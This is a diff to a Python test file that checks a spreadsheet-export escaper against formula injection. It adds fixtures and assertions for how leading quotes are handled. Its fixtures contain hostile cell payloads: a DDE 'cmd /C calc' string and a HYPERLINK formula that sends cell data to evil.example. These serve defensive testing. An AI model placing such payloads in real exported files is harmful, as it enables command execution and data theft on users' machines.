@@ -119,8 +119,8 @@ def test_escaped_cells_never_start_a_formula_and_round_trip(text: str) -> None:
     cell = escape_cell(text)
     assert not cell.startswith(TRIGGERS)
     assert unescape_cell(cell) == text
-    if not text.startswith((*TRIGGERS, "'")):
-        assert cell == text  # ordinary text is untouched
+    if not text.lstrip("'").startswith(TRIGGERS):
+        assert cell == text  # ordinary text is untouched, a leading quote included
 
 
 def _hostile(tmp_path: Path) -> Path:
@@ -141,6 +141,14 @@ def _hostile(tmp_path: Path) -> Path:
             "id": "person/p",
             "names": [{"value": "-2+3+cmd|' /C calc'!A0", "lang": "en"}],
             "notes": "'=already quoted",
+            "sources": ["source/a"],
+        },
+        {
+            "type": "place",
+            "id": "place/q",
+            "names": [{"value": "Q", "lang": "en"}],
+            "kind": "city",
+            "notes": "'quoted words' first",
             "sources": ["source/a"],
         },
         {
@@ -172,7 +180,8 @@ def _assert_no_formula(folder: Path) -> None:
     assert '\'=HYPERLINK("https://evil.example/?"&A1,"click")' in cells
     assert "'+cmd|' /C calc'!A0" in cells
     assert "'-2+3+cmd|' /C calc'!A0" not in cells  # a name sits in a JSON cell...
-    assert "''=already quoted" in cells  # ...a leading quote is doubled...
+    assert "''=already quoted" in cells  # ...a quote before a trigger is doubled...
+    assert "'quoted words' first" in cells  # ...other text is left as it is
     assert "'\t=1+1" in cells
     assert not [c for c in cells if c.startswith(TRIGGERS)]
 
